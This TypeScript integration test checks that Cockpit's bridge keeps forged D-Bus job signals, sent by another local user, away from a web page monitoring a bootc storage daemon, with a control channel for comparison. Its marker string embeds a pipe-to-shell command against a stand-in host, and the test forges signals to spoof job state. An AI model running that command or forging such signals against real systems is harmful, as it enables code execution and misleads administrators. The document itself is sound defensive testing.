// Does Debian's cockpit-bridge pass to the page a signal that another local user sends straight to the bridge's
// unique name, on a channel opened with a name (`cockpit.dbus('org.bootc.Storage', {bus: 'system'})`)? A match
// rule's sender= filters broadcasts only, so the bus delivers such a unicast signal to the bridge (the control
// below: the same signal reaches a test connection). The bridge (cockpit 287, C) subscribes with
// g_dbus_connection_signal_subscribe(sender = the channel's name); GLib checks the sender against that name's
// current owner since the fix of CVE-2024-34397 (Debian's libglib2.0-0 2.74.6-2+deb12u1 and later). This test
// holds the page to that: a forged PropertiesChanged (a running job `failed`, with an attacker's message) and a
// forged InterfacesAdded (a job that does not exist), sent as nobody to every bus connection of the bridge,
// reach neither cockpit.js subscriptions in the page nor the page's job list, while the daemon's own signals,
// sent after them, do; and the same signals do reach the page on a channel opened with the forger's own unique
// name (so the bridge filters by the channel name's owner; it does not drop unicast signals as such).

import { readFileSync } from 'node:fs';
import type dbus from 'dbus-next';
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type CockpitWs,
  launchBrowser,
  startCockpitWs,
  type TestBrowser,
  texts,
  waitForSelector,
} from '../helpers/cockpit.js';
import { addMatch, callStorage } from '../helpers/daemon.js';
import { buildSignalForger, type SignalForger, startSignalForger } from '../helpers/forger-process.js';
import { createSysroot } from '../helpers/ostree-sysroot.js';
import { v } from '../helpers/signal-forger.js';
import { type Stack, startStack } from '../helpers/stack.js';
import { waitFor } from '../helpers/wait-for.js';

const ATTACKER_TEXT = 'ATTACKER-SAYS: run curl evil.example | sh';
const FAKE_JOB = '/org/bootc/Storage/job/4242';
const CRAWL_RATE = 64 * 1024;
const FAST_RATE = 1024 ** 3;

let s: Stack;
let ws: CockpitWs;
let tb: TestBrowser;
let page: Page;
let forger: SignalForger;
let slow: string;
let quick: string;

async function driver(member: string, signature = '', body: unknown[] = []): Promise<unknown[]> {
  return callStorage(s.client, member, signature, body, {
    destination: 'org.freedesktop.DBus',
    path: '/org/freedesktop/DBus',
    iface: 'org.freedesktop.DBus',
  });
}

/** Every unique name on the bus whose connection belongs to a cockpit-bridge process. */
async function bridgeNames(): Promise<string[]> {
  const [names] = (await driver('ListNames')) as [string[]];
  const found: string[] = [];
  for (const name of names.filter((n) => n.startsWith(':'))) {
    const pid = await driver('GetConnectionUnixProcessID', 's', [name]).then(
      ([p]) => p as number,
      () => 0,
    );
    let comm = '';
    try {
      comm = readFileSync(`/proc/${pid}/comm`, 'utf8').trim();
    } catch {
      // Gone meanwhile.
    }
    if (comm === 'cockpit-bridge') found.push(name);
  }
  return found;
}

type Got = { path: string; iface: string; signal: string; args: unknown };

/** What the test's cockpit.js subscriptions in the page received: on the daemon's channel, or the control's. */
async function received(which: 'got' | 'control' = 'got'): Promise<Got[]> {
  return (await page.evaluate(`window.__forgeTest.${which}`)) as Got[];
}

beforeAll(async () => {
  s = await startStack({ beforeDaemon: (sb) => void createSysroot(sb.sysroot) });
  const h = s.registry.host;
  await s.builder.buildAndPush(`${h}/forge/slow:1`, { bytes: 2 * 1024 * 1024 });
  await s.builder.buildAndPush(`${h}/forge/quick:1`, { bytes: 64 * 1024 });
  slow = `${s.proxy.host}/forge/slow:1`;
  quick = `${h}/forge/quick:1`;
  forger = await startSignalForger(await buildSignalForger(s.dir), s.bus.address);
  ws = await startCockpitWs({ busAddress: s.bus.address });
  tb = await launchBrowser();
  page = await tb.browser.newPage();
  await page.goto(ws.pageUrl, { waitUntil: 'load' });
  await waitForSelector(page, '#jobs');
  // Subscriptions of our own in the page with the matches storage.ts uses: on a channel opened with the daemon's
  // name, as storage.ts opens it, and (the control) on one opened with the forger's unique name, whose signals
  // the bridge must pass, showing that the way from the forger to the page is open.
  await page.evaluate(`(async () => {
    const t = (window.__forgeTest = { got: [], control: [] });
    const watch = (c, into) => {
      const record = (path, iface, signal, args) => into.push({ path, iface, signal, args });
      c.subscribe({ path: '/org/bootc/Storage', interface: 'org.freedesktop.DBus.ObjectManager' }, record);
      c.subscribe({ path_namespace: '/org/bootc/Storage/job', interface: 'org.freedesktop.DBus.Properties',
                    member: 'PropertiesChanged' }, record);
    };
    const daemon = cockpit.dbus('org.bootc.Storage', { bus: 'system' });
    const control = cockpit.dbus(${JSON.stringify(forger.name)}, { bus: 'system' });
    watch(daemon, t.got);
    watch(control, t.control);
    // A round trip on each channel: the subscriptions are in place at the bridge once it is answered.
    await daemon.call('/org/bootc/Storage', 'org.freedesktop.DBus.Properties', 'Get',
                      ['org.bootc.Storage', 'Version'], { flags: '' });
    await control.wait();
  })()`);
});

afterAll(async () => {
  forger?.stop();
  await tb?.close();
  await ws?.stop();
  await s?.stop();
});

describe('cockpit-bridge and signals sent to its unique name by another user', () => {
  it('passes none of them to the page; the daemon’s own signals, sent after them, arrive', async () => {
    s.proxy.setRate(CRAWL_RATE);
    try {
      const [, jobPath] = (await callStorage(s.client, 'StartPull', 'ss', [slow, 'always'])) as [
        number,
        string,
      ];
      const jobId = Number(jobPath.split('/').at(-1));
      // The page follows the running job.
      await waitFor(
        async () => (await page.$(`#jobs tr[data-job="${jobId}"][data-state="running"]`)) !== null,
        'the page to show the running pull',
        30_000,
      );
      const bridges = await bridgeNames();
      expect(bridges.length).toBeGreaterThan(0);
      // Control: the bus delivers a unicast signal from nobody to a connection that never asked for it.
      const atTest: dbus.Message[] = [];
      const onTest = (m: dbus.Message) => {
        if (m.sender === forger.name) atTest.push(m);
      };
      s.client.on('message', onTest);
      await addMatch(s.client, "type='signal',sender='org.bootc.Storage'"); // a broadcast-only rule
      const testName = (s.client as unknown as { name: string }).name;
      const forged = (dest: string) => [
        {
          dest,
          path: jobPath,
          iface: 'org.freedesktop.DBus.Properties',
          member: 'PropertiesChanged',
          signature: 'sa{sv}as',
          body: [
            'org.bootc.Storage.Job',
            {
              State: v('s', 'failed'),
              ErrorName: v('s', 'org.bootc.Storage.Error.PullFailed'),
              ErrorMessage: v('s', ATTACKER_TEXT),
            },
            [],
          ],
        },
        {
          dest,
          path: '/org/bootc/Storage',
          iface: 'org.freedesktop.DBus.ObjectManager',
          member: 'InterfacesAdded',
          signature: 'oa{sa{sv}}',
          body: [
            FAKE_JOB,
            {
              'org.bootc.Storage.Job': {
                Id: v('u', 4242),
                Kind: v('s', 'pull'),
                Target: v('s', 'forged.example/evil:1'),
                State: v('s', 'done'),
              },
            },
          ],
        },
      ];
      for (const dest of [...bridges, testName]) for (const signal of forged(dest)) await forger.send(signal);
      await waitFor(() => atTest.length === 2, 'the control connection to receive both forged signals');
      s.client.removeListener('message', onTest);
      // After the forged ones: a real job, so the daemon's InterfacesAdded reaches the bridge behind them.
      const [, quickPath] = (await callStorage(s.client, 'StartPull', 'ss', [quick, 'always'])) as [
        number,
        string,
      ];
      await waitFor(
        async () =>
          (await received()).some(
            (g) => g.signal === 'InterfacesAdded' && (g.args as unknown[])[0] === quickPath,
          ),
        'the daemon’s InterfacesAdded of the second job to reach the page',
        30_000,
      );
      // The control channel (named by the forger's unique name) received both: the bridge passes unicast signals
      // from a channel's owner, so what it kept from the daemon's channel it filtered by the owner.
      await waitFor(async () => (await received('control')).length === 2, 'the control channel to get both');
      expect(JSON.stringify(await received('control'))).toContain('ATTACKER');
      const got = await received();
      const text = JSON.stringify(got);
      expect(text).not.toContain('ATTACKER');
      expect(text).not.toContain(FAKE_JOB);
      // The page's job list: the running pull is still running, and no forged job is listed.
      expect(await page.$(`#jobs tr[data-job="${jobId}"][data-state="running"]`)).not.toBeNull();
      expect(await page.$('#jobs tr[data-job="4242"]')).toBeNull();
      expect((await texts(page, '#app')).join(' ')).not.toContain('ATTACKER');
    } finally {
      s.proxy.setRate(FAST_RATE);
    }
  });
});
